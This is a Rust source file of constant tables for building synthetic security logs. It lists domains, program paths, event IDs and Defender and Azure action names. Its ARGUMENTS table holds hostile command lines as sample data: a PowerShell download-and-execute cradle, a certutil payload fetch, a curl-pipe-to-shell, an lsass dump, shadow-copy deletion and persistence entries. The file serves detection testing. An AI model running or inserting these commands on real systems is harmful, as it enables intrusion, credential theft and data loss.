//! Lists of things that occur in security logs: programs, event ids, operations, and made-up names.

pub const GIVEN: [&str; 24] = [
    "Anna", "Ben", "Clara", "David", "Elena", "Felix", "Greta", "Hugo", "Ines", "Jonas", "Katja", "Lukas", "Marta",
    "Nils", "Olga", "Paul", "Rosa", "Simon", "Tilda", "Viktor", "Wanda", "Yusuf", "Admin", "Svc",
];
pub const SURNAMES: [&str; 16] = [
    "Keller", "Moreau", "Okafor", "Petrov", "Rossi", "Tanaka", "Varga", "Weiss", "Castro", "Dubois", "Farkas",
    "Horvat", "Jansen", "Larsen", "Nagy", "Berg",
];
pub const SITES: [&str; 40] = [
    "login.microsoftonline.com",
    "graph.microsoft.com",
    "windowsupdate.com",
    "northharbor.example",
    "portal.example",
    "cdn.static.example",
    "files.example",
    "share.example",
    "seabridge-freight.example",
    "parceltrack.example",
    "github.com",
    "raw.githubusercontent.com",
    "dropbox.com",
    "api.telegram.org",
    "pastebin.com",
    "discord.com",
    "onedrive.live.com",
    "teams.microsoft.com",
    "outlook.office365.com",
    "management.azure.com",
    "vault.azure.net",
    "blob.core.windows.net",
    "sharepoint.com",
    "google.com",
    "drive.google.com",
    "update.example",
    "evil-login.example",
    "secure-bank.example",
    "xn--nrthharbor-o5b.example",
    "bit.ly",
    "ngrok.io",
    "duckdns.example",
    "tor.example",
    "anydesk.com",
    "teamviewer.com",
    "mega.nz",
    "ipinfo.io",
    "crl.example",
    "ocsp.example",
    "a1b2c3d4e5f6.top",
];
/// Programs and where they lie; the first ones run most often.
pub const FILES: [(&str, &str); 44] = [
    ("svchost.exe", r"C:\Windows\System32"),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0"),
    ("cmd.exe", r"C:\Windows\System32"),
    ("explorer.exe", r"C:\Windows"),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application"),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application"),
    ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
    ("winword.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
    ("excel.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
    ("services.exe", r"C:\Windows\System32"),
    ("lsass.exe", r"C:\Windows\System32"),
    ("rundll32.exe", r"C:\Windows\System32"),
    ("regsvr32.exe", r"C:\Windows\System32"),
    ("mshta.exe", r"C:\Windows\System32"),
    ("wscript.exe", r"C:\Windows\System32"),
    ("cscript.exe", r"C:\Windows\System32"),
    ("certutil.exe", r"C:\Windows\System32"),
    ("bitsadmin.exe", r"C:\Windows\System32"),
    ("schtasks.exe", r"C:\Windows\System32"),
    ("net.exe", r"C:\Windows\System32"),
    ("net1.exe", r"C:\Windows\System32"),
    ("whoami.exe", r"C:\Windows\System32"),
    ("nltest.exe", r"C:\Windows\System32"),
    ("wmic.exe", r"C:\Windows\System32\wbem"),
    ("vssadmin.exe", r"C:\Windows\System32"),
    ("reg.exe", r"C:\Windows\System32"),
    ("taskhostw.exe", r"C:\Windows\System32"),
    ("msbuild.exe", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319"),
    ("installutil.exe", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319"),
    ("psexec.exe", r"C:\Tools"),
    ("procdump.exe", r"C:\Tools"),
    ("anydesk.exe", r"C:\Users\Public\Downloads"),
    ("rclone.exe", r"C:\ProgramData"),
    ("update.exe", r"C:\Users\Public\AppData\Local\Temp"),
    ("invoice.pdf.exe", r"C:\Users\Public\Downloads"),
    ("payload.dll", r"C:\Users\Public\AppData\Roaming"),
    ("setup.msi", r"C:\Users\Public\Downloads"),
    ("report.docm", r"C:\Users\Public\Documents"),
    ("archive.iso", r"C:\Users\Public\Downloads"),
    ("notes.lnk", r"C:\Users\Public\Desktop"),
    ("bash", "/usr/bin"),
    ("curl", "/usr/bin"),
    ("python3", "/usr/bin"),
    ("sshd", "/usr/sbin"),
];
/// What follows a program's name on its command line.
pub const ARGUMENTS: [&str; 24] = [
    "",
    "-k netsvcs -p",
    "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\daily.ps1",
    "-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "-w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
    "/c whoami /all",
    "/c ping -n 3 10.0.0.1",
    "user /domain",
    "group \"Domain Admins\" /domain",
    "delete shadows /all /quiet",
    "-urlcache -split -f http://198.51.100.9/b.exe C:\\Users\\Public\\b.exe",
    "/create /sc minute /mo 5 /tn Updater /tr C:\\ProgramData\\u.exe",
    "javascript:\"\\..\\mshtml,RunHTMLApplication \"",
    "process call create \"cmd.exe\"",
    "add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d C:\\u.exe",
    "-ma lsass.exe out.dmp",
    "/domain_trusts",
    "copy remote:share C:\\out --transfers 8",
    "-o StrictHostKeyChecking=no root@192.0.2.4",
    "-fsSL https://share.example/i.sh | sh",
    "-c 'import os; print(os.environ)'",
    "--type=renderer --lang=en-US",
    "/i \"C:\\Users\\Public\\Documents\\report.docm\"",
    "Add-MpPreference -ExclusionPath C:\\Temp",
];
pub const REGISTRY_KEYS: [&str; 7] = [
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    r"HKEY_CURRENT_USER\S-1-5-21-1004336348\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce",
    r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\WinDefend",
    r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Lsa",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection",
    r"HKEY_CURRENT_USER\SOFTWARE\Microsoft\Office\16.0\Word\Security",
    r"HKEY_LOCAL_MACHINE\SOFTWARE\Classes\CLSID\{00000000-0000-0000-0000-000000000001}\InprocServer32",
];
pub const EVENT_IDS: [i64; 40] = [
    4624, 4625, 4634, 4648, 4656, 4657, 4663, 4662, 4670, 4672, 4688, 4689, 4697, 4698, 4702, 4719, 4720, 4722, 4724,
    4725, 4726, 4728, 4732, 4738, 4740, 4756, 4767, 4768, 4769, 4771, 4776, 5136, 5140, 5145, 7045, 1102, 1, 3, 11,
    8002,
];
pub const PORTS: [i64; 16] = [443, 80, 53, 445, 3389, 22, 25, 88, 389, 135, 5985, 8080, 1433, 21, 23, 4444];
/// Country, its code, a city, a point.
pub const PLACES: [(&str, &str, &str, f64, f64); 8] = [
    ("Germany", "DE", "Hamburg", 53.55, 9.99),
    ("United States", "US", "Boston", 42.36, -71.06),
    ("France", "FR", "Lyon", 45.76, 4.84),
    ("Japan", "JP", "Osaka", 34.69, 135.5),
    ("Brazil", "BR", "Recife", -8.05, -34.88),
    ("Russia", "RU", "Kazan", 55.79, 49.12),
    ("China", "CN", "Wuhan", 30.59, 114.31),
    ("Nigeria", "NG", "Lagos", 6.52, 3.38),
];
pub const SYSTEMS: [&str; 8] =
    ["Windows10", "Windows11", "Windows", "WindowsServer2019", "Linux", "macOS", "iOS", "Android"];
pub const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15",
    "python-requests/2.32.3",
    "curl/8.9.1",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18025; Pro)",
    "axios/1.7.4",
    "",
];
pub const SENTENCES: [&str; 12] = [
    "An account was successfully logged on",
    "Failed password for invalid user admin from 203.0.113.7 port 52122 ssh2",
    "Accepted publickey for deploy from 198.51.100.9 port 40222 ssh2",
    "Invalid username or password or Invalid on-premise username or password.",
    "MFA requirement satisfied by claim in the token",
    "The service entered the running state",
    "Connection blocked by policy; src=10.0.0.4 dst=203.0.113.7 proto=TCP",
    "New inbox rule created: move to RSS Feeds",
    "Suspicious sign-in from an unfamiliar location",
    "Invoice 4711 overdue: please review the attached document",
    "{\"action\":\"allow\",\"rule\":\"web-out\",\"bytes\":1432}",
    "a=1,b=two,c=\"three four\"",
];
pub const NAMES: [&str; 14] = [
    "Default",
    "Finance",
    "web-frontend",
    "prod-db",
    "Global Administrator",
    "User Administrator",
    "Azure Portal",
    "Office 365 Exchange Online",
    "Microsoft Graph",
    "Domain Admins",
    "backup",
    "Legacy Auth Block",
    "Updater",
    "test",
];
pub const WORDS: [&str; 12] =
    ["", "unknown", "default", "Other", "Yes", "No", "N/A", "internal", "external", "user", "system", "prod"];
pub const TACTICS: [&str; 8] = [
    "InitialAccess",
    "Execution",
    "Persistence",
    "PrivilegeEscalation",
    "DefenseEvasion",
    "CredentialAccess",
    "LateralMovement",
    "Exfiltration",
];
pub const TECHNIQUES: [&str; 8] = ["T1566", "T1059", "T1053", "T1078", "T1562", "T1110", "T1021", "T1048"];
pub const THREATS: [&str; 6] = ["Phish", "Malware", "Spam", "Phish, Spam", "", ""];

/// Actions that the tables of Defender tell of.
pub fn actions(table: &str) -> &'static [&'static str] {
    match table {
        "DeviceProcessEvents" => &["ProcessCreated", "OpenProcess"],
        "DeviceNetworkEvents" => &[
            "ConnectionSuccess",
            "ConnectionFailed",
            "ConnectionRequest",
            "InboundConnectionAccepted",
            "DnsConnectionInspected",
        ],
        "DeviceFileEvents" => &["FileCreated", "FileModified", "FileDeleted", "FileRenamed"],
        "DeviceRegistryEvents" => {
            &["RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted", "RegistryKeyDeleted"]
        }
        "DeviceLogonEvents" => &["LogonSuccess", "LogonFailed", "LogonAttempted"],
        "DeviceImageLoadEvents" => &["ImageLoaded"],
        "DeviceEvents" => &[
            "PowerShellCommand",
            "AntivirusDetection",
            "AsrOfficeChildProcessBlocked",
            "UsbDriveMounted",
            "NamedPipeEvent",
            "ScheduledTaskCreated",
            "ServiceInstalled",
            "SmartScreenUrlWarning",
            "DnsQueryResponse",
            "ExploitGuardNetworkProtectionBlocked",
            "CreateRemoteThreadApiCall",
            "LdapSearch",
            "UserAccountCreated",
            "DpapiAccessed",
        ],
        "IdentityLogonEvents" => &["LogonSuccess", "LogonFailed"],
        "IdentityDirectoryEvents" => &[
            "Account Password changed",
            "Group Membership changed",
            "User Account Created",
            "Directory Services replication",
            "Potential lateral movement path identified",
        ],
        "IdentityQueryEvents" => &["LDAP query", "SAMR query", "DNS query"],
        "EmailPostDeliveryEvents" | "MessagePostDeliveryEvents" => &["Phish ZAP", "Malware ZAP", "Manual Remediation"],
        "UrlClickEvents" => &["ClickAllowed", "ClickBlocked", "ClickBlockedByTenantPolicy", "UrlErrorPage"],
        _ => &[
            "FileDownloaded",
            "MailItemsAccessed",
            "New-InboxRule",
            "Set-Mailbox",
            "Add member to role.",
            "UserLoggedIn",
            "UserLoginFailed",
            "Consent to application.",
            "FileUploaded",
            "Update user.",
            "Send",
            "Add-MailboxPermission",
            "Allow",
            "Deny",
            "Blocked",
            "Detected",
        ],
    }
}

/// Operations that audit logs tell of.
pub fn operations(table: &str) -> &'static [&'static str] {
    match table {
        "AzureActivity" => &[
            "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
            "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
            "MICROSOFT.KEYVAULT/VAULTS/WRITE",
            "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
            "MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE",
            "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
        ],
        "AuditLogs" => &[
            "Add user",
            "Add member to role",
            "Add member to group",
            "Consent to application",
            "Add service principal",
            "Update application – Certificates and secrets management",
            "Reset user password",
            "Disable Strong Authentication",
            "Add owner to application",
            "Update conditional access policy",
            "Delete user",
            "Invite external user",
        ],
        "SigninLogs" | "AADNonInteractiveUserSignInLogs" => &["Sign-in activity"],
        "AzureDiagnostics" => {
            &["SecretGet", "VaultGet", "KeyDecrypt", "AzureFirewallNetworkRuleLog", "ApplicationGatewayFirewall"]
        }
        "StorageBlobLogs" | "StorageFileLogs" => {
            &["GetBlob", "PutBlob", "DeleteBlob", "ListBlobs", "GetBlobProperties"]
        }
        _ => &[
            "New-InboxRule",
            "Set-InboxRule",
            "FileAccessed",
            "FileDownloaded",
            "MailItemsAccessed",
            "UserLoggedIn",
            "Add user.",
            "Add member to role.",
            "Set-Mailbox",
            "Create",
            "Update",
            "Delete",
            "Read",
            "Git.RefUpdatePoliciesBypassed",
        ],
    }
}
